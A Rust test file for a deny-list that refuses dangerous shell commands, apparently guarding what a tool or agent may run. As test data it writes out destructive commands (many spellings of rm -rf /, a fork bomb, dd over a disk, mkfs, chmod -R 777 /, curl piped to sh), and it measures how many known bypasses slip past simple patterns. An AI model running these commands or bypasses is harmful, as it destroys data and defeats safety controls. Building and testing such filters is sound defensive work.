use super::*;

/// The ways around the patterns that the outside tests run in a sandbox: `NAME<TAB>COMMAND`, `@` for what is to be removed.
const BYPASSES: &str = include_str!("../../../tests/cases/bypasses.txt");

fn deny(patterns: &[&str]) -> Deny {
    patterns.iter().map(|pattern| Pattern::parse(pattern).unwrap()).collect()
}

#[track_caller]
fn refused(patterns: &[&str], command: &str, why: &str) {
    let refusal = deny(patterns).refuses(command).map(|refusal| refusal.to_string());
    assert_eq!(refusal.as_deref(), Some(why), "{command}");
}

#[track_caller]
fn runs(patterns: &[&str], command: &str) {
    assert_eq!(deny(patterns).refuses(command), None, "{command}");
}

const EXAMPLES: [&str; 3] = ["rm -rf /", "mkfs", ":(){ :|:& };:"];

#[test]
fn t14_the_three_examples_are_refused_and_what_only_resembles_them_is_not() {
    refused(&EXAMPLES, "rm -rf /", "it matches `rm -rf /` of `deny`");
    refused(&EXAMPLES, "mkfs.ext4 disk.img", "it matches `mkfs` of `deny`");
    refused(&EXAMPLES, ":(){ :|:& };:", "it matches `:(){ :|:& };:` of `deny`");
    for harmless in ["rm -rf ./build", "rm -r build", "ls -la /", "echo done", "cat mk.fs"] {
        runs(&EXAMPLES, harmless);
    }
}

#[test]
fn x22_a_plain_pattern_is_a_text_with_any_white_space_and_one_with_re_an_expression() {
    refused(&["rm -rf /"], "echo; rm \t -rf\n /", "it matches `rm -rf /` of `deny`");
    refused(&["curl  |  sh"], "curl | sh", "it matches `curl  |  sh` of `deny`");
    refused(
        &[r"re:curl\b.*\|\s*(ba)?sh\b"],
        "curl https://x | bash",
        r"it matches `re:curl\b.*\|\s*(ba)?sh\b` of `deny`",
    );
    runs(&[r"re:curl\b.*\|\s*(ba)?sh\b"], "curl https://x > page");
    // Its brackets and bars are a text, not an expression.
    runs(&[":(){ :|:& };:"], "echo ':' ");
}

#[test]
fn x22_a_pattern_that_cannot_be_one_is_an_error() {
    let flaw = |text: &str| Pattern::parse(text).unwrap_err().message;
    assert_eq!(flaw("re:("), "`(` is not a regular expression that can be used: unclosed group");
    assert!(flaw(r"re:(\w{500}){500}").contains("exceeds size limit"), "{}", flaw(r"re:(\w{500}){500}"));
    for everything in ["", "  \t ", "re:", "re:.*", "re:x?"] {
        assert_eq!(flaw(everything), "the pattern matches every command", "{everything:?}");
    }
}

#[test]
fn t14_what_would_end_the_machine_is_refused_without_a_pattern() {
    let stops = [
        ("shutdown -h now", "it runs `shutdown`"),
        ("reboot", "it runs `reboot`"),
        ("/sbin/halt", "it runs `halt`"),
        ("mkfs.xfs /dev/sdb1", "it runs `mkfs.xfs`"),
        ("systemctl reboot", "it runs `systemctl reboot`"),
        ("init 0", "it runs `init 0`"),
        (":(){ :|:& };:", "it starts itself without end"),
        (":() { : | : & } ; :", "it starts itself without end"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "it writes over a disk"),
        ("echo x > /dev/nvme0n1", "it writes over a disk"),
        ("chmod -R 777 /", "it changes the modes or owners of the whole file system"),
        ("CHOWN -R me /", "it changes the modes or owners of the whole file system"),
    ];
    for (command, why) in stops {
        refused(&[], command, why);
    }
    let harmless = [
        "systemctl status ssh",
        "init 3",
        "git init 0x",
        "dd if=a of=b",
        "echo shutdown",
        "chmod -R 755 ./out",
        "echo hi > /dev/null",
        "man reboot",
    ];
    for command in harmless {
        runs(&[], command);
    }
}

#[test]
fn t14_removing_a_vital_directory_is_refused_however_it_is_spelled_and_separated() {
    let root = "it removes `/` and all that is below it";
    let same = [
        "rm -rf /",
        "rm -r /",
        "rm -R -f /",
        "rm -fr /",
        "rm --recursive --force /",
        "rm -r -f -- /",
        "  rm   -rf\t/ ",
        "sudo rm -rf /",
        "sudo -u root -n rm -rf /",
        "/usr/bin/sudo /bin/rm -rf /",
        "r''m -rf /",
        "\\rm -rf /",
        "'rm' \"-rf\" '/'",
        "rm -rf \\\n/",
        "cd /tmp; rm -rf /",
        "true && rm -rf /",
        "false || rm -rf /",
        "echo x | rm -rf /",
        "sleep 1 & rm -rf /",
        "echo 'a;b' ; rm -rf /",
        "rm -rf ./x /",
        "rm -rf / # tidy up",
    ];
    for command in same {
        refused(&[], command, root);
    }
    refused(&[], "rm -rf /usr/", "it removes `/usr/` and all that is below it");
    refused(&[], "rm -rf ~", "it removes `~` and all that is below it");
    refused(&[], "rm -rf \"$HOME\"", "it removes `$HOME` and all that is below it");
    refused(&[], "rm -r --no-preserve-root x", "it removes with `--no-preserve-root`");
    let harmless = [
        "rm -rf /srv/app/build",
        "rm /etc/x",
        "rm -f /",
        "rm -r /etc",
        "echo rm -rf /",
        "echo 'x; rm -rf /'",
        "# rm -rf /",
        "rm -i old",
        "",
        "sudo",
        "'",
    ];
    for command in harmless {
        runs(&[], command);
    }
}

/// Nobody is told that these patterns hold anything. `native::sh4_…` runs the same lines where something does.
#[test]
fn sh4_the_known_ways_around_are_not_caught() {
    let ways: Vec<(&str, &str)> = BYPASSES.lines().filter_map(|line| line.split_once('\t')).collect();
    assert!(ways.len() >= 30, "{} ways around", ways.len());
    for (name, command) in &ways {
        assert_eq!(deny(&EXAMPLES).refuses(&command.replace('@', "~")), None, "{name} is caught by now: {command}");
    }
    println!("measured: {} of {} ways around the patterns are caught by none of them", ways.len(), ways.len());
}

#[test]
fn however_long_or_broken_a_command_is_it_is_looked_at() {
    for command in
        ["'".repeat(100_000), "\\".repeat(99_999), "a ".repeat(100_000), "rm -rf ".repeat(20_000), "\0".into()]
    {
        runs(&EXAMPLES, &command);
    }
}
